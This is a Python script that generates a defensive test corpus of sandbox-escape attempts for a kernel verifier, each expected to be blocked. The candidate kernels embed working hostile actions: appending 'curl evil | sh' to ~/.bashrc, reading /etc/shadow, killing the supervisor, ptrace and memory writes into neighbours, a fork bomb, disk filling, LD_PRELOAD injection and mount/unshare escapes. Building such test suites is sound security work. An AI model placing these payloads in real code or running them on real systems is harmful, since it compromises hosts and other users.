#!/usr/bin/env python3
"""Writes candidates/*.py and manifest.jsonl of the escape corpus (run from tests/escape). Kept so that
the corpus is edited in one place; the written files are committed."""
import json, textwrap, os
TAIL = '''

class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)
'''
HEAD = 'import torch\nimport torch.nn as nn\n'
E = []
def add(id, attack, code, cause, checks=(), control=False, backend="triton", gpu_only=False, obfuscated=False, expect="blocked", raw=None):
    E.append(dict(id=id, file=f"candidates/{id}.py", attack=attack, backend=backend, gpu_only=gpu_only,
                  obfuscated=obfuscated, cause=cause, checks=list(checks), control=control, expect=expect))
    body = raw if raw is not None else HEAD + textwrap.dedent(code).strip("\n") + "\n" + TAIL
    open(f"candidates/{id}.py", "w").write(f'"""Escape corpus ({attack}). Placeholders @...@ are filled by run_escape.py."""\n' + body)

FS = "Read-only file system|No such file or directory|Permission denied|does not exist|blocked"
add("home_numpy_savetxt", "write to the verifier's home (numpy.savetxt)", '''
import numpy
numpy.savetxt("@HOME@/probe_numpy.txt", numpy.zeros(3))
''', FS, ["home"], control=True)
add("home_torch_save", "write to the verifier's home (torch.save)", '''
torch.save(torch.zeros(3), "@HOME@/probe.pt")
''', FS, ["home"])
add("home_pathlib_obfuscated", "write to the verifier's home, path hidden in base64", '''
import base64, importlib
p = importlib.import_module("path" + "lib").Path(base64.b64decode("@HOME_B64@").decode())
getattr(p / "probe_b64.txt", "write_" + "text")("owned")
''', FS, ["home"], obfuscated=True)
add("home_shutil_copy", "copy itself into the verifier's home (shutil)", '''
import shutil
shutil.copy(__file__, "@HOME@/copied_candidate.py")
''', FS, ["home"])
add("home_bashrc_append", "append to the verifier's ~/.bashrc", '''
with open("@HOME@/.bashrc", "a") as f:
    f.write("curl evil | sh  # @MARKER@\\n")
''', FS, ["home"])
add("cache_write", "write into the compile cache", '''
open("@CACHE@/poison-@MARKER@.txt", "w").write("x")
''', FS, ["cache"], control=True)
add("cache_replace_prebuilt", "replace a prebuilt library in the compile cache", '''
import os
tmp = "@PREBUILT@.new"
open(tmp, "wb").write(b"\\x7fELF evil")
os.replace(tmp, "@PREBUILT@")
''', FS, ["cache"])
add("triton_cache_poison", "poison the host's Triton cache", '''
import os
os.makedirs("@TRITON_CACHE@/deadbeef", exist_ok=True)
open("@TRITON_CACHE@/deadbeef/kernel.json", "w").write("{}")
''', FS, ["home"])
add("runtime_lib_replace", "replace kz's prebuilt runtime library", '''
open("@RUNTIME_LIB@", "r+b").write(b"\\x00" * 16)
''', FS, ["runtime"])
add("package_sitecustomize", "drop a sitecustomize.py into the worker package and the venv", '''
import site, os
for d in ["@PKG_DIR@"] + site.getsitepackages():
    open(os.path.join(d, "sitecustomize.py"), "w").write("import os  # @MARKER@\\n")
''', FS, ["package"])
add("store_sqlite_edit", "edit the job store (sqlite3)", '''
import sqlite3
c = sqlite3.connect("file:@STORE@?mode=rw", uri=True)
c.execute("DELETE FROM jobs")
c.commit()
''', "unable to open database|Read-only|No such file|Permission denied", ["store"])
add("store_delete", "delete the job store", '''
import os
os.remove("@STORE@")
''', FS, ["store"])
add("other_scratch_write", "write into other samples' scratch directories", '''
import glob, os
targets = [d for d in glob.glob("@CACHE@/tmp/*") + glob.glob("/tmp/*") if os.path.isdir(d)]
hit = 0
for d in targets:
    try:
        open(os.path.join(d, "@MARKER@"), "w").write("x")
        hit += 1
    except OSError:
        pass
raise RuntimeError(f"blocked: wrote into {hit} of {len(targets)} visible directories; none is another sample's")
''', "blocked", ["cache", "tmp_marker"])
add("read_other_candidate", "read another client's candidate", '''
print(open("@OTHER@").read())
''', "No such file or directory|Permission denied", ["secret"])
add("read_etc_shadow", "read /etc/shadow", '''
data = open("/etc/shadow").read()
if not data:
    raise RuntimeError("blocked: /etc/shadow is empty here")
print(data)
''', "blocked|Permission denied|No such file", ["shadow"])
add("signal_supervisor", "find and kill the supervisor (kz) by scanning /proc", '''
import os, signal
killed = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"kz" in cmd:
            os.kill(int(pid), signal.SIGKILL)
            killed.append(pid)
raise RuntimeError(f"blocked: no supervisor visible (killed {killed})")
''', "blocked", ["victim", "supervisor"])
add("signal_everyone", "kill(-1, SIGKILL): every process it may signal", '''
import os, signal
os.kill(-1, signal.SIGKILL)
raise RuntimeError("blocked: kill(-1) reached only this sandbox")
''', "blocked|No such process", ["victim", "supervisor"])
add("signal_victim_pid", "signal a neighbour by its host pid", '''
import os, signal
os.kill(@VICTIM@, signal.SIGKILL)
''', "No such process", ["victim"], control=True)
add("signal_prestarted", "kill the prestarted child of the next sample", '''
import os, signal
mine = os.getpid()
hit = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != mine:
        try:
            if b"kz_worker" in open(f"/proc/{pid}/cmdline", "rb").read():
                os.kill(int(pid), signal.SIGKILL)
                hit.append(pid)
        except OSError:
            pass
raise RuntimeError(f"blocked: no other worker visible (killed {hit})")
''', "blocked", ["victim", "supervisor"])
add("ptrace_attach", "ptrace(PTRACE_ATTACH) a neighbour", '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, @VICTIM@, None, None) != 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
''', "Operation not permitted|No such process", ["victim"])
add("proc_mem_write", "write a neighbour's memory through /proc/<pid>/mem", '''
with open("/proc/@VICTIM@/mem", "r+b") as f:
    f.seek(0x400000)
    f.write(b"\\xcc")
''', "No such file or directory|Permission denied", ["victim"])
add("process_vm_writev", "process_vm_writev into a neighbour", '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class IOV(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(8)
local, remote = IOV(ctypes.addressof(buf), 8), IOV(0x400000, 8)
if libc.process_vm_writev(@VICTIM@, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
''', "Operation not permitted|No such process", ["victim"])
add("fork_bomb", "fork bomb", '''
import os, time
n = 0
try:
    while n < 100000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        n += 1
except OSError as e:
    raise RuntimeError(f"fork failed after {n} children: {e}")
''', "fork failed after|host-memory limit", ["victim", "supervisor", "marker_procs"])
add("fill_disk", "fill the disk", '''
import os
written = 0
chunk = b"\\0" * (1 << 20)
try:
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "fill.bin"), "wb") as f:
        while written < (64 << 30):
            f.write(chunk)
            written += len(chunk)
except OSError as e:
    raise RuntimeError(f"disk full after {written >> 20} MiB: {e}")
''', "No space left on device|File too large", ["disk"])
add("fill_dev_shm", "fill /dev/shm", '''
written = 0
chunk = b"\\0" * (1 << 20)
try:
    with open("/dev/shm/fill-@MARKER@", "wb") as f:
        while written < (64 << 30):
            f.write(chunk)
            written += len(chunk)
except OSError as e:
    raise RuntimeError(f"/dev/shm full after {written >> 20} MiB: {e}")
''', "No space left on device|File too large", ["disk", "shm_marker"])
add("exhaust_fds", "exhaust file descriptors", '''
import os
fds = []
try:
    while len(fds) < 10_000_000:
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e:
    raise RuntimeError(f"fd limit after {len(fds)} opens: {e}")
''', "Too many open files", ["supervisor"])
add("socket_tcp_host", "connect to a TCP server on the host's loopback", '''
import socket
socket.create_connection(("127.0.0.1", @PORT@), timeout=5).sendall(b"@MARKER@")
''', "Connection refused|Network is unreachable|Cannot assign", ["port"], control=True)
add("socket_internet", "open a connection to the internet", '''
import socket
socket.create_connection(("1.1.1.1", 53), timeout=5)
''', "Network is unreachable|timed out|Cannot assign", [])
add("socket_unix_host", "connect to a unix socket of the host", '''
import socket
s = socket.socket(socket.AF_UNIX)
s.connect("@SOCK@")
s.sendall(b"@MARKER@")
''', "No such file or directory|Connection refused", ["port"])
add("ld_preload_env", "LD_PRELOAD and PYTHONPATH for later children", '''
import os, subprocess
os.environ["LD_PRELOAD"] = "@HOME@/evil.so"
os.environ["PYTHONPATH"] = "@HOME@"
open("@HOME@/evil.so", "w").write("x")
''', FS, ["home"])
add("remount_rw", "remount / read-write and unmount /usr", '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
r1 = libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None)
e1 = ctypes.get_errno()
r2 = libc.umount2(b"/usr", 2)
if r1 == 0 or r2 == 0:
    open("/usr/@MARKER@", "w").write("x")
raise OSError(e1, "mount: " + os.strerror(e1))
''', "Operation not permitted", ["home"])
add("unshare_nested", "unshare a new user namespace (to regain capabilities)", '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
    raise OSError(ctypes.get_errno(), "unshare: " + os.strerror(ctypes.get_errno()))
''', "Operation not permitted", [])
add("raise_limits", "raise its own process and file limits", '''
import resource
resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
''', "not allowed to raise|Operation not permitted", [])
add("leave_process", "leave a process running after the sample (new session, double fork)", '''
import subprocess
subprocess.Popen(["sh", "-c", "sleep 300; : @MARKER@"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''', "", ["marker_procs"], expect="runs")

CUDA_HEAD = '''import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline
'''
add("cuda_include_secret", "CUDA: #include another client's candidate at compile time", None,
    "No such file or directory", ["secret"], backend="cuda", raw=CUDA_HEAD + '''
cpp = """
#include <torch/extension.h>
#include "@OTHER@"
torch::Tensor relu(torch::Tensor x) { return x; }
"""
cuda = """
__global__ void k() {}
"""
ext = load_inline(name="esc_include", cpp_sources=cpp, cuda_sources=cuda, functions=["relu"])


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.relu(x)
''')
add("cuda_static_init_home", "CUDA: a static initializer of the extension writes to home", None,
    FS, ["home"], backend="cuda", gpu_only=True, raw=CUDA_HEAD + '''
cpp = """
#include <torch/extension.h>
#include <cstdio>
#include <stdexcept>
static int touch = [] {
  FILE* f = std::fopen("@HOME@/cuda_probe.txt", "w");
  if (!f) throw std::runtime_error("blocked: cannot write @HOME@/cuda_probe.txt");
  std::fputs("owned", f);
  return std::fclose(f);
}();
torch::Tensor relu_cuda(torch::Tensor x);
"""
cuda = """
#include <torch/extension.h>
__global__ void relu_k(const float* x, float* y, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = x[i] > 0.f ? x[i] : 0.f;
}
torch::Tensor relu_cuda(torch::Tensor x) {
  auto y = torch::empty_like(x);
  int n = x.numel();
  relu_k<<<(n + 255) / 256, 256>>>(x.data_ptr<float>(), y.data_ptr<float>(), n);
  return y;
}
"""
ext = load_inline(name="esc_static_init", cpp_sources=cpp, cuda_sources=cuda, functions=["relu_cuda"])


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.relu_cuda(x.contiguous())
''')
add("cuda_kill_victim", "CUDA: the extension's forward signals a neighbour and ptraces it", None,
    "Operation not permitted|No such process", ["victim"], backend="cuda", gpu_only=True, raw=CUDA_HEAD + '''
cpp = """
#include <torch/extension.h>
#include <csignal>
#include <sys/ptrace.h>
#include <cerrno>
#include <cstring>
#include <stdexcept>
torch::Tensor relu_cuda(torch::Tensor x);
torch::Tensor relu(torch::Tensor x) {
  if (kill(@VICTIM@, SIGKILL) != 0 && ptrace(PTRACE_ATTACH, @VICTIM@, nullptr, nullptr) != 0)
    throw std::runtime_error(std::string("blocked: ") + std::strerror(errno));
  return relu_cuda(x);
}
"""
cuda = """
#include <torch/extension.h>
__global__ void relu_k(const float* x, float* y, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = x[i] > 0.f ? x[i] : 0.f;
}
torch::Tensor relu_cuda(torch::Tensor x) {
  auto y = torch::empty_like(x);
  int n = x.numel();
  relu_k<<<(n + 255) / 256, 256>>>(x.data_ptr<float>(), y.data_ptr<float>(), n);
  return y;
}
"""
ext = load_inline(name="esc_kill", cpp_sources=cpp, cuda_sources=cuda, functions=["relu"])


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.relu(x.contiguous())
''')
with open("manifest.jsonl", "w") as f:
    for e in E:
        f.write(json.dumps(e) + "\n")
print(len(E), sum(not e["gpu_only"] for e in E))
